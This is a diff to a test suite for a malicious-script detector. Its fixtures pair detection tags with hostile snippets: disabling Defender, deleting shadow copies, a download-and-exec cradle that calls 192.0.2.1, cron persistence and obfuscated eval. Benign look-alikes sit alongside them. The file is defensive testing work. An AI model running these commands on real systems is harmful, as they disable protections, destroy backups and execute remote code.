@@ -84,7 +84,11 @@ describe('what a script does', () => {
     ['DEFENDER_TAMPERING', 'S`et-MpPref`erence -DisableRealtimeMonitoring 1', 'a.ps1'],
     ['SHADOW_COPY_DELETION', 'vssadmin delete shadows /all', 'a.bat'],
     ['SHELLCODE_LOADER', '$a = VirtualAlloc; CreateThread', 'a.ps1'],
+    ['DOWNLOAD_CRADLE', 'exec(urlopen("http://192.0.2.1/a").read())', 'a.py'],
+    ['PERSISTENCE_CRON', '(crontab -l; echo "* * * * * /tmp/a") | crontab -', 'a.sh'],
+    ['PERSISTENCE_CRON', 'cp a /etc/init.d/a', 'a.sh'],
     ['EVAL_DECODED', 'exec(base64.b64decode("aa"))', 'a.py'],
+    ['EVAL_DECODED', 'Execute(StrReverse("x"))', 'a.vbs'],
     ['HTML_SMUGGLING', 'b=atob(x);a.href=URL.createObjectURL(b);a.download="x"', 'a.js'],
     ['ENCODED_SCRIPT', '#@~^AAAAAA==abc', 'a.vbe'],
   ];
@@ -103,6 +107,12 @@ describe('what a script does', () => {
       ['Get-ChildItem | ForEach-Object { $_.Name }', 'a.ps1'],
       ['for i in a b; do echo "$i"; done', 'a.sh'],
       ['ping -w 1 192.0.2.1', 'a.bat'],
+      [`from urllib.request import urlopen\n${'# a line\n'.repeat(99)}exec(code, names)`, 'a.py'],
+      ['self.execute(copy, (a,))\nname = name.replace("-", "_")', 'a.py'],
+      ['import base64\nbase64.b64decode(a)\n/a/.exec(b)', 'a.js'],
+      ['/etc/init.d/cron start || echo "/etc/init.d/cron does not start"', 'a.sh'],
+      [`echo "no curl here" | grep 'curl '\n${'# a line\n'.repeat(150)}sh -c true`, 'a.sh'],
+      [`A = "${'\\u0370-\\u03ff'.repeat(99)}"`, 'a.py'],
     ];
     for (const [text, name] of honest) assert.equal((await tagsOf(text, name)).length, 1, text);
   });
@@ -180,6 +190,7 @@ describe('what a script carries', () => {
     const table = Array.from({ length: 64 }, (_, place) => (place * 37 + 128) % 256).join(',');
     assert.deepEqual((await look(`var a = [${table}];`, 'a.js')).nested, []);
     assert.deepEqual((await look(`var a = "${'x'.repeat(100)}";`, 'a.js')).nested, []);
+    assert.deepEqual((await look(`padding = [${'0x20, '.repeat(64)}]`, 'a.py')).nested, []);
   });
 
   it('is cut where it unpacks to too much', async () => {
@@ -203,11 +214,17 @@ describe('a hostile script', () => {
   ];
   for (const [what, piece] of lines) {
     it(`of one endless line of ${what} is read in bounded time`, async () => {
-      const bytes = Buffer.alloc((what === 'spaces' ? 50 : 3) * 1024 * 1024, piece);
-      const { limits } = await inspect(script, bytes, { name: 'a.ps1' });
-      assert.ok(limits.includes('the text is longer than what is looked at'));
+      const bytes = Buffer.alloc(2 * 1024 * 1024, piece);
+      assert.ok((await inspect(script, bytes, { name: 'a.ps1' })).tags.has('SCRIPT_POWERSHELL'));
     });
   }
+
+  it('is read as far as is sensible, and says so', async () => {
+    const { limits } = await inspect(script, Buffer.alloc(50 * 1024 * 1024, ' '), {
+      name: 'a.ps1',
+    });
+    assert.deepEqual(limits, ['the text is longer than what is looked at']);
+  });
 
   it('returns for whatever it is given', async () => {
     const good = Buffer.from(
